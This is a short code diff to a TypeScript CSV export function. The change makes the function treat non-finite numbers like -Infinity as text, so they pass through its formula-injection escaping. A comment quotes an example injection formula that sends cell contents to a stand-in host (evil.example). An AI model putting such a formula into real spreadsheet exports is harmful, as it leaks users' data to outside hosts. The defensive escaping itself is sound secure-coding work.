@@ -9,7 +9,7 @@ import { jsonText } from '../model/json-text';
  * `=HYPERLINK("https://evil.example?"&A1)` would run on the reader's machine. Text cells are
  * therefore neutralised as OWASP recommends: a `'` before the text, inside a quoted field
  * (`"'=HYPERLINK(..."`), which spreadsheets read as "this is text" and do not show. Numbers are
- * never touched: a number cell is written as the number, and a text cell that is a plain decimal
+ * never touched: a finite number cell is written as the number, and a text cell that is a plain decimal
  * number (`-12.5`, `+3`, `1e-3`) is left as it is, since a spreadsheet reads it as that number and
  * never as a formula.
  */
@@ -44,6 +44,10 @@ export function csvField(cell: unknown, escapeFormulas = true): string {
       if (escapeFormulas && isFormulaLike(text)) return `"'${text.replace(/"/g, '""')}"`;
       break;
     case 'number':
+      // A finite number is a number to every reader; `-Infinity` (a crafted snapshot) is text.
+      if (!Number.isFinite(cell)) return csvField(String(cell), escapeFormulas);
+      text = String(cell);
+      break;
     case 'boolean':
       text = String(cell);
       break;
